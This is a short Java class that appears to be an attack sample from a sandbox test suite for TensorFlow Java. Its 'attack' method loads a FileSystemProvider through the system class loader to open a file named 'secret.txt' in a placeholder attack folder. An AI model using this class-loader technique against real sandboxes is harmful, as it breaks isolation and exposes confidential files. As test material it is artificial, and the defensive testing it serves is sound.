import java.net.URI;
import java.util.Map;
import java.util.ServiceLoader;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        ServiceLoader.load(java.nio.file.spi.FileSystemProvider.class, ClassLoader.getSystemClassLoader())
                .findFirst()
                .orElseThrow()
                .newFileSystem(URI.create("jar:file:ATTACK_FOLDER/secret.txt"), Map.of());
    }
}
